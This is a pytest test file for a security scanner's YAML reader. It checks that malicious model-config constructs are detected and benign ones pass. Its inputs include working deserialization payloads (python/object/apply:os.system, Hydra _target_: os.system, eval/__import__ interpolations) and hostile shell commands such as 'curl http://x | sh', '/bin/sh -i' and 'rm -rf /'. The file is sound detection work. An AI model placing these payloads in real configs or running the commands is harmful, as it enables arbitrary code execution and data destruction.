from __future__ import annotations

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from modelscan.budget import Budget, Limits
from modelscan.errors import BudgetError, ReadError
from modelscan.formats.objects.tree import SHADOWED
from modelscan.formats.objects.yaml_reader import YamlReader
from modelscan.formats.objects.yaml_tree import Stream
from modelscan.formats.reader import Glimpse
from modelscan.vocabulary.artifact import BytesArtifact
from modelscan.vocabulary.fact import ConfigObject
from tests.forge import reading

READER = YamlReader(reading.rules().lists.pickle_globals)
CRITICAL = "config-calls-dangerous-name"


@pytest.mark.parametrize(
    ("text", "rule"),
    [
        ("a: !!python/object/apply:os.system ['id']", CRITICAL),
        ("!!python/object/new:subprocess.Popen [id]", CRITICAL),
        ("a: !<tag:yaml.org,2002:python/object/apply:os.system> [id]", CRITICAL),
        ("%TAG !x! tag:yaml.org,2002:python/\n---\na: !x!object/apply:os.system [id]", CRITICAL),
        ("a: !!python/object%2Fapply:os.system [id]", CRITICAL),
        ("a: !!python/name:os.system", CRITICAL),
        ("a: !!python/module:os", CRITICAL),
        ("first: 1\n---\nb: !!python/object/apply:builtins.eval ['1']", CRITICAL),
        ("a: !!python/object:somewhere.Thing {}", "yaml-constructs-object"),
        ("a: !!javax.script.ScriptEngineManager []", "yaml-constructs-object"),
        ("a: !ruby/object:Gem::Installer {}", "yaml-constructs-object"),
        ("a: !!python/object:argparse.Namespace {}", "yaml-constructs-plain-object"),
        ("a: !!python/name:somewhere.f", "yaml-constructs-plain-object"),
        ("model:\n  _target_: os.system\n  command: id", CRITICAL),
        ("x: &t os.system\nmodel:\n  _target_: *t", CRITICAL),
        ("base: &b {_target_: os.system}\nmodel:\n  <<: *b", CRITICAL),
        ('"\\x5ftarget_": os.system', CRITICAL),
        ("p: os\nmodel: {_target_: '${p}.system'}", CRITICAL),
        ("_target_: os.system\n_target_: torch.nn.Linear", CRITICAL),
        ("m: {target: os.system, params: {}}", CRITICAL),
        ("a: !new:os.system []", CRITICAL),
        ("a: !apply:subprocess.run [id]", CRITICAL),
        ("a: !new:somewhere.Model {}", "config-calls-unknown-name"),
        ("m: {_target_: somewhere.exec_cmd}", "config-calls-hostile-name"),
        ("m: {_target_: my_backdoor.Model}", "config-calls-hostile-name"),
        ("x: ${eval:__import__('os').system('id')}", "python-process-on-import"),
        ("x: \"${py: __import__('subprocess').run(${a.b})}\"", "python-process-on-import"),
        ("m: {_target_: a.Model, run: 'curl -s https://x | sh'}", "config-calls-hostile-name"),
        ("m: {_target_: a.Model, _args_: ['/bin/sh -i']}", "config-calls-hostile-name"),
        ("m: {target: a.Model, params: {x: rm -rf /}}", "config-calls-hostile-name"),
        ("m: {_target_: a.Model, url: 'https://example.com/w'}", "config-calls-unknown-name"),
        ("m: {_target_: a.SystemPrompt, shell_depth: 3}", "config-calls-unknown-name"),
        ("class_name: Lambda\nconfig: {function: f, function_type: function, module: m}",
         "keras-lambda-function"),
        ("py/object: os.system", CRITICAL),
        ("? !!python/object/apply:os.system [id]\n: 1", CRITICAL),
        ("? {_target_: os.system}\n: 1", CRITICAL),
        ("a: 1\n\tb: [\n!!python/object/apply:os.system [id]", CRITICAL),
        ("a: [\nmodel:\n  _target_: os.system\n}", CRITICAL),
        ("a: [\nb: !!python/object:somewhere.X\n}", "yaml-constructs-object"),
    ],
)  # fmt: skip
def test_what_a_document_makes_its_loader_do_is_found(text: str, rule: str) -> None:
    assert rule in reading.found(text.encode(), "config.yaml")


def test_other_encodings_hide_nothing() -> None:
    text = "a: !!python/object/apply:os.system [id]"
    assert reading.fails(text.encode("utf-16"), "config.yml") == [CRITICAL]


@pytest.mark.parametrize(
    "text",
    [
        "",
        "a: 1\nb: [1, 2]\n",
        "a: !!str 5\nb: !!python/tuple [1, 2]\nc: !!python/unicode x\nd: !!set {x}",
        "model: {_target_: nemo.collections.asr.models.EncDecCTCModel}",
        "model: !new:speechbrain.lobes.models.ECAPA_TDNN.ECAPA_TDNN\n  input_size: !ref <n_mels>",
        "seed: !apply:torch.manual_seed [1]",
        "x: !include:other.yaml\ny: !ENV [A]",
        "emoji: !!python/name:torch.nn.functional.relu",
        "target: x86",
        "a: Hello!",
        "{{ template }}\n!",
        "a: *missing\nb: !x y",
        "!!",
    ],
)
def test_an_ordinary_document_is_quiet(text: str) -> None:
    assert reading.quiet(text.encode(), "config.yaml")


def test_a_line_is_given_for_a_tag() -> None:
    facts, _ = reading.read(b"a: 1\nb: !!python/object/apply:os.system [id]\n", "a.yaml")
    assert [fact.location.line for fact in facts if isinstance(fact, ConfigObject)] == [2]


def test_a_document_that_can_name_nothing_is_not_asked_for() -> None:
    assert not READER.recognises(Glimpse(BytesArtifact("a.yaml", b"a: 1")))
    assert READER.recognises(Glimpse(BytesArtifact("a.yaml", b"a: !x 1")))
    assert READER.recognises(Glimpse(BytesArtifact("a.yaml", b"a: 1\n" * 2000)))
    assert not READER.recognises(Glimpse(BytesArtifact("a.txt", b"a: !x 1")))
    assert list(READER.read(BytesArtifact("a.yaml", b"a: 1\n" * 2000), Budget())) == []


def test_what_is_not_yaml_is_searched_and_no_needed_gap() -> None:
    _, coverage = reading.read(b"a: [\n!\n}", "a.yaml")
    assert [entry.needed for entry in coverage] == [False]
    assert "searched as text" in coverage[0].reason


def test_a_huge_document_is_a_needed_gap() -> None:
    data = b"a: !x 1\n# " + b"x" * (8 << 20)
    _, coverage = reading.read(data, "a.yaml")
    assert [entry.needed for entry in coverage] == [True]


@pytest.mark.parametrize("text", ["!a " + "[" * 1000, "a: !x\n" + "- " * 1000, "{a: " * 1000])
def test_depth_is_bounded(text: str) -> None:
    with pytest.raises(BudgetError):
        list(Stream(text.encode()).documents(Budget()))


def test_tags_and_events_are_bounded() -> None:
    with pytest.raises(BudgetError):
        list(Stream(b"[" + b"!a b," * 20_000 + b"]").documents(Budget()))
    with pytest.raises(BudgetError):
        list(Stream(b"[" + b"b," * 20_000 + b"]").documents(Budget(Limits(steps=5000))))


def test_aliases_do_not_grow() -> None:
    lines = ["a0: &a0 [x, x]"] + [f"a{at}: &a{at} [*a{at - 1}, *a{at - 1}]" for at in range(1, 60)]
    (root,) = Stream("\n".join(lines).encode()).documents(Budget())
    assert root["a59"] == [None, None]


def test_a_broken_stream_keeps_what_came_before() -> None:
    stream = Stream(b"a: 1\nb: {c: 2\nd: [")
    (root,) = stream.documents(Budget())
    assert root["a"] == "1"
    assert stream.broken.startswith("not YAML after line")


def test_keys_that_stand_twice_keep_all_values() -> None:
    (root,) = Stream(b"a: 1\na: 2\n").documents(Budget())
    assert root == {"a": "2", SHADOWED: {"a": ["1"]}}


def test_only_so_much_is_searched_as_text() -> None:
    data = b"a: [\n" + b"_target_: os.system\n" * 500 + b"}"
    assert CRITICAL in reading.found(data, "a.yaml")


_PIECES = st.sampled_from(
    ["a: ", "- ", "\n", "  ", "!!python/object/apply:os.system ", "*a ", "&a ", "[", "]", "{", "}",
     "_target_: ", "os.system", "? ", ": ", "---\n", "...\n", "'", '"', "|\n", "#", "\t",
     "!new:x.y "]
)  # fmt: skip


@given(st.lists(_PIECES, max_size=40).map("".join))
@settings(max_examples=200, deadline=None)
def test_any_text_is_read(text: str) -> None:
    list(READER.read(BytesArtifact("a.yaml", text.encode()), Budget()))


@given(st.binary(max_size=200))
@settings(max_examples=200, deadline=None)
def test_any_bytes_end_in_facts_or_a_read_error(data: bytes) -> None:
    try:
        list(READER.read(BytesArtifact("a.yaml", b"!" + data), Budget()))
    except ReadError:
        return


@pytest.mark.parametrize(
    ("text", "rule"),
    [
        ("_target_: subprocess.Popen\nargs: [sh, -c, 'curl http://x | sh']\n", CRITICAL),
        ("a:\n  - command: curl http://x | sh\n    _target_: os.system\n", CRITICAL),
        ("_target_: my.own.f\ncmd: curl http://x | sh\n", "config-calls-hostile-name"),
        ("run: curl http://x | sh\na:\n  _target_: my.own.f\n", "script-runs-unknown-download"),
        ("run: curl http://x | sh\n_target_: torch.nn.Linear\n", "script-runs-unknown-download"),
    ],
)
def test_a_command_that_a_function_is_handed_is_one_finding(text: str, rule: str) -> None:
    assert reading.fails(text.encode(), "config.yaml") == [rule]
